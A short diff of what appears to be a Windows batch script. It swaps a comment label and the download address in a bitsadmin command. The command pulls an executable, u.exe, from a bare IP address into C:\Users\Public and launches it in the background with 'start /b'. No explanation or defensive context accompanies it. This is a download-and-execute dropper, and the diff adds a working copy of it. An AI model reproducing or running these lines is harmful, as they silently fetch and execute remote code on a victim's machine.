@@ -1,3 +1,3 @@
-REM init 7573 v4
-bitsadmin /transfer job /download /priority high http://203.0.113.200/u.exe C:\Users\Public\u.exe
+REM task 9733 v4
+bitsadmin /transfer job /download /priority high http://203.0.113.17/u.exe C:\Users\Public\u.exe
 start /b C:\Users\Public\u.exe
